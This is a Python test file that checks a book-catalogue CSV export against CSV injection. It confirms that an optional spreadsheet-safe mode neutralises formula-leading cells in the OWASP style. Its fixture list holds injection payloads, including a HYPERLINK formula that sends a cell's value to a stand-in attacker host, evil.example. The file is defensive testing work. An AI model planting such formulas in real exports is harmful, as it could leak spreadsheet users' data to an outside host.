"""CSV export and spreadsheet formulas (CSV injection), on both databases.

The export is data for programs: by default every value is written as stored, a category
named ``=HYPERLINK(…)`` included. ``spreadsheetSafe=true`` (``--spreadsheet-safe``) applies
OWASP's neutralisation to text cells: quoted, with a leading ``'`` where the value begins
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. Numbers are never touched.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select, update

from bookql.catalog.tables import books, categories
from bookql.db.engine import create_sync_engine, write_transaction
from bookql.ml.tables import book_features
from tests.accounts.test_accounts import SECRET
from tests.conftest import ScratchDatabase, app_client
from tests.ml.test_training_data import register_async
from tests.support.admin_session import seed

pytestmark = pytest.mark.slow  # computes features, runs the command

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturned",
    '=1+2";=1+2',  # OWASP's examples: a quote and a separator inside the cell
    "=1+2'\" ;,=1+2",
]
PLAIN = "Plain, with a comma"
NEGATIVE = -1.5  # a stored series number: a number, not a formula


@pytest.fixture
def hostile_db(empty_db: ScratchDatabase) -> ScratchDatabase:
    """The snapshot with categories renamed to formulas."""
    asyncio.run(seed(empty_db))
    engine = create_sync_engine(empty_db.settings())
    try:
        with write_transaction(engine) as conn:
            ids = list(conn.execute(select(categories.c.id).order_by(categories.c.id)).scalars())
            for category_id, name in zip(ids, [*HOSTILE, PLAIN], strict=False):
                conn.execute(
                    update(categories).where(categories.c.id == category_id).values(name=name)
                )
    finally:
        engine.dispose()
    return empty_db


def _negative_series(database: ScratchDatabase) -> str:
    """Give one book's stored features a negative number (after the features exist)."""
    engine = create_sync_engine(database.settings())
    try:
        with write_transaction(engine) as conn:
            book_id = conn.execute(select(book_features.c.book_id).limit(1)).scalar_one()
            conn.execute(
                update(book_features)
                .where(book_features.c.book_id == book_id)
                .values(series_number=NEGATIVE)
            )
            upc: str = conn.execute(select(books.c.upc).where(books.c.id == book_id)).scalar_one()
            return upc
    finally:
        engine.dispose()


async def _export(database: ScratchDatabase, query: str) -> tuple[int, bytes]:
    async with app_client(database.settings(jwt_secret=SECRET)) as http:
        token = await register_async(http)
        response = await http.get(
            f"/export/training-data{query}", headers={"Authorization": f"Bearer {token}"}
        )
    return response.status_code, response.content


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def _neutralised(value: str) -> str:
    return "'" + value if value[0] in "=+-@\t\r" else value


async def test_raw_by_default_neutralised_on_request(
    hostile_db: ScratchDatabase,
) -> None:
    status, _ = await _export(hostile_db, "?format=csv")  # computes the stored features
    assert status == 200
    upc = _negative_series(hostile_db)

    status, raw = await _export(hostile_db, "?format=csv&batchSize=97")
    assert status == 200
    header, *rows = _cells(raw)
    assert {row[1] for row in rows} >= {*HOSTILE, PLAIN}  # data for programs: as stored
    series = header.index("series_number")

    status, safe = await _export(hostile_db, "?format=csv&batchSize=97&spreadsheetSafe=true")
    assert status == 200
    safe_header, *safe_rows = _cells(safe)
    assert safe_header == header and len(safe_rows) == len(rows)
    for plain, guarded in zip(rows, safe_rows, strict=True):
        assert guarded[:2] == [_neutralised(plain[0]), _neutralised(plain[1])]
        assert guarded[2:] == plain[2:]  # numbers as they were
    names = {row[1] for row in safe_rows}
    assert {"'" + name for name in HOSTILE} <= names and PLAIN in names
    assert not any(name.startswith(tuple("=+-@\t\r")) for name in names)
    negative = next(row for row in safe_rows if row[0] == upc)
    assert float(negative[series]) == NEGATIVE and negative[series].startswith("-")
    # OWASP's own examples, byte for byte; every text cell quoted
    assert b'"\'=1+2"";=1+2"' in safe
    assert b'"\'=1+2\'"" ;,=1+2"' in safe
    assert f'\n"{upc}","'.encode() in safe and f"\n{upc},".encode() in raw


async def test_only_csv_can_be_spreadsheet_safe(hostile_db: ScratchDatabase) -> None:
    for query in ("?format=jsonl&spreadsheetSafe=true", "?format=csv&spreadsheetSafe=maybe"):
        status, body = await _export(hostile_db, query)
        assert status == 400 and b"BAD_USER_INPUT" in body and b"spreadsheetSafe" in body


def test_the_command_offers_the_same_option(hostile_db: ScratchDatabase, tmp_path: Path) -> None:
    env = {
        **os.environ,
        "BOOKQL_DATABASE_URL": hostile_db.url,
        "BOOKQL_DATA_DIR": str(hostile_db.data_dir),
    }

    def export(*options: str) -> tuple[subprocess.CompletedProcess[str], Path]:
        target = tmp_path / f"training-{len(options)}.csv"
        command = [sys.executable, "-m", "bookql", "export", "training-data", "-o", str(target)]
        done = subprocess.run(
            [*command, *options], env=env, capture_output=True, text=True, check=False
        )
        return done, target

    done, raw = export("--format", "csv")
    assert done.returncode == 0, done.stderr
    assert {row[1] for row in _cells(raw.read_bytes())[1:]} >= set(HOSTILE)
    done, safe = export("--format", "csv", "--spreadsheet-safe")
    assert done.returncode == 0, done.stderr
    names = {row[1] for row in _cells(safe.read_bytes())[1:]}
    assert {"'" + name for name in HOSTILE} <= names
    done, _ = export("--format", "parquet", "--spreadsheet-safe")
    assert done.returncode == 2 and "csv only" in done.stderr
